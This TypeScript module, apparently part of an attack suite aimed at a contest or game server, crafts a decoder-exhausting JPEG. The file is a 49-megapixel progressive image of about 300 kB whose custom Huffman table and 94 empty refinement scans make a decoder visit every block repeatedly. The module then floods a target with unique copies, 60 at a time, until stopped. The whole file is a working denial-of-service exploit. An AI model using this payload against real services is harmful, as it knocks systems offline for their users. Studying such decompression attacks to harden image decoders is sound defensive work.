// Small files from a player that cost a decoder seconds: JPEGs of 49 megapixels, refined in 95 scans.
import sharp from 'sharp';
import { SQUARES } from '../contest-calls.ts';
import { type Attack, createTally, timeoutSignal } from './attack.ts';
import { sendPhoto } from './send.ts';

const SIDE = 7000;
/** libvips refuses more than 100. */
const SCANS = 95;
const AT_ONCE = 60;

const BLOCKS = Math.ceil(SIDE / 8) ** 2;

/** A Huffman table of two symbols: `0` begins a run of 16,384 to 32,767 empty blocks, `10` one of 8,192 to 16,383. */
const TABLE = Buffer.from([0xff, 0xc4, 0, 21, 0x10, 1, 1, ...Array(14).fill(0), 0xe0, 0xd0]);

/** A few bytes that leave every block unchanged; the decoder still visits each of them. */
function emptyBlocks(): Buffer {
  let bits = '';
  for (let left = BLOCKS; left > 0; ) {
    const run = Math.min(left, 0x7fff);
    bits += run < 0x4000 ? `10${rest(run, 13)}` : `0${rest(run, 14)}`;
    left -= run;
  }
  const bytes = (bits.match(/.{1,8}/g) ?? []).map((byte) =>
    Number.parseInt(byte.padEnd(8, '1'), 2),
  );
  // A 0xff byte would start a marker; a zero byte after it marks it as data.
  return Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte])));
}

const rest = (run: number, digits: number) => (run - 2 ** digits).toString(2).padStart(digits, '0');

/** Everything before the second scan: headers, tables and the mean of each block. */
function firstScan(jpeg: Buffer): Buffer {
  let at = 2;
  for (; jpeg[at + 1] !== 0xda; at += 2 + jpeg.readUInt16BE(at + 2));
  for (at += 2; !(jpeg[at] === 0xff && jpeg[at + 1] !== 0); at++);
  return jpeg.subarray(0, at);
}

/** A legal successive approximation of the three components, from the thirteenth bit down to the last. */
function refinements(): Buffer[] {
  const blocks = emptyBlocks();
  const scans: Buffer[] = [];
  for (let bit = 13; bit >= 0; bit--) {
    for (const component of [1, 2, 3]) {
      for (const [from, to] of [
        [1, 31],
        [32, 63],
      ] as const) {
        const bitsDone = bit === 13 ? 0 : bit + 1;
        const head = [0xff, 0xda, 0, 8, 1, component, 0, from, to, (bitsDone << 4) | bit];
        scans.push(Buffer.concat([Buffer.from(head), blocks]));
      }
    }
  }
  return scans;
}

/** A valid file of about 300 kB. */
async function slowJpeg(): Promise<Buffer> {
  const bare = await sharp({
    create: { width: SIDE, height: SIDE, channels: 3, background: '#808080' },
  })
    .jpeg({ progressive: true, chromaSubsampling: '4:4:4' })
    .toBuffer();
  const scans = refinements().slice(0, SCANS - 1);
  return Buffer.concat([firstScan(bare), TABLE, ...scans, Buffer.from([0xff, 0xd9])]);
}

export const progressiveJpeg: Attack = async (target) => {
  const jpeg = await slowJpeg();
  let made = 0;
  // Bytes after the end of the picture make each file distinct.
  const another = () => Buffer.concat([jpeg, Buffer.from(`another ${made++}`)]);
  return async (signal) => {
    const tally = createTally();
    const sendAnother = async () => {
      const square = SQUARES[made % SQUARES.length] ?? 0;
      tally.add(await sendPhoto(target, square, another(), timeoutSignal()));
    };
    while (!signal.aborted) {
      await Promise.all(Array.from({ length: AT_ONCE }, sendAnother));
    }
    return { answers: tally.answers };
  };
};
